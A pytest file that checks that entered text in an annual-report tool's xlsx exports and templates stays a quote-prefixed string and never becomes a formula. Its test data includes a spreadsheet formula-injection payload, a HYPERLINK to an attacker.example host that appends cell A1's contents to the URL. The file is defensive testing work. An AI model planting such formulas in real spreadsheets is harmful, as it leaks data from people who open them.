"""Text entered for the annual report never becomes a formula in its xlsx files.

The annual report (`report annual --format xlsx`) and the fill-in template (`report
template`) follow the ledger's rule (`disclosure/report/cell_safety.py`, docs/exports.md): a
text starting with `=`, `+`, `-`, `@`, a tab or a carriage return is a string cell with
Excel's quote prefix, so it shows, and reads back, exactly as typed.
"""

from __future__ import annotations

from datetime import UTC, datetime
from pathlib import Path

import pytest
from openpyxl import load_workbook
from openpyxl.cell.cell import Cell

from disclosure.db import transaction
from disclosure.report.annual_models import ReportValue

YEAR = "2026"
TEXT_SHEET = "总体情况及其他事项"
TEXT_CELLS = {"overview": "B1", "problems": "B2", "other": "B3"}  # in TEXT_SHEET
TEMPLATE_CELLS = {"overview": "C13", "problems": "C14", "other": "C15"}  # in the template
# Two rounds of the three texts: every formula start that `report set` keeps.
ROUNDS = [
    {
        "overview": '=HYPERLINK("http://attacker.example/?d="&A1,"点击查看")',
        "problems": "+1+2 依申请公开答复质量有待提高",
        "other": "-2+3 本年度未发生其他需要报告的事项",
    },
    {
        "overview": "@SUM(1,2) 本局全面贯彻《条例》",
        "problems": '=HYPERLINK("http://x")',
        "other": "=1+1",
    },
]


def _assert_text(cell: Cell, typed: str, *, whole: bool = True) -> None:
    """A string cell with Excel's quote prefix that reads back as typed (the ledger's rule)."""
    assert cell.data_type != "f", (cell.coordinate, cell.value)
    assert cell.data_type == "s" and cell.quotePrefix, (cell.coordinate, cell.value)
    assert isinstance(cell.value, str)
    assert cell.value == typed if whole else cell.value.startswith(typed), cell.value


def _no_formulas(path: Path) -> None:
    wb = load_workbook(path)
    try:
        found = [
            f"{ws.title}!{c.coordinate}"
            for ws in wb.worksheets
            for row in ws.iter_rows()
            for c in row
            if c.data_type == "f"
        ]
    finally:
        wb.close()
    assert not found


def _check_files(cli, tmp_path: Path, texts: dict[str, str], tag: str) -> Path:  # type: ignore[no-untyped-def]
    report = tmp_path / f"report-{tag}.xlsx"
    r = cli("report", "annual", "--year", YEAR, "--format", "xlsx", "--out", str(report))
    assert r.exit_code == 0, r.stderr
    wb = load_workbook(report)
    try:
        ws = wb[TEXT_SHEET]
        for key, coordinate in TEXT_CELLS.items():
            # 六 is the office's text followed by the computed fee sentence
            _assert_text(ws[coordinate], texts[key], whole=key != "other")
    finally:
        wb.close()
    _no_formulas(report)

    template = tmp_path / f"template-{tag}.xlsx"
    r = cli("report", "template", "--year", YEAR, "--out", str(template))
    assert r.exit_code == 0, r.stderr
    wb = load_workbook(template)
    try:
        ws = wb.worksheets[0]
        for key, coordinate in TEMPLATE_CELLS.items():
            assert ws[coordinate.replace("C", "A")].value == key
            _assert_text(ws[coordinate], texts[key])
    finally:
        wb.close()
    _no_formulas(template)
    return template


@pytest.mark.parametrize("texts", ROUNDS, ids=["eq-plus-minus", "at-eq-eq"])
def test_entered_text_is_never_a_formula_in_report_or_template(  # type: ignore[no-untyped-def]
    cli, tmp_path: Path, texts: dict[str, str]
):
    for key, value in texts.items():
        r = cli("report", "set", key, value, "--year", YEAR)
        assert r.exit_code == 0, r.stderr
    template = _check_files(cli, tmp_path, texts, "cli")

    # The template loads back as it was written: the texts are unchanged.
    r = cli("report", "load", str(template), "--year", YEAR)
    assert r.exit_code == 0, r.stderr
    assert "其中 0 项有变化" in r.stdout


def test_text_starting_with_tab_or_cr_stays_text(cli, engine, tmp_path: Path):  # type: ignore[no-untyped-def]
    """`report set` strips a leading tab or CR; a row stored otherwise (set in the database,
    as by an older version) is still written as text, as the ledger writes it."""
    assert cli("report", "values", "--year", YEAR).exit_code == 0  # the database exists
    texts = {"overview": "\t=1+1 总体情况", "problems": "\r=2+2 存在的问题", "other": "=3+3"}
    with transaction(engine) as session:
        for key, value in texts.items():
            session.add(
                ReportValue(
                    year=int(YEAR), key=key, value=value, source="cli",
                    entered_at=datetime(2027, 1, 5, 2, 0, tzinfo=UTC), entered_by="t",
                )
            )  # fmt: skip
    _check_files(cli, tmp_path, texts, "db")
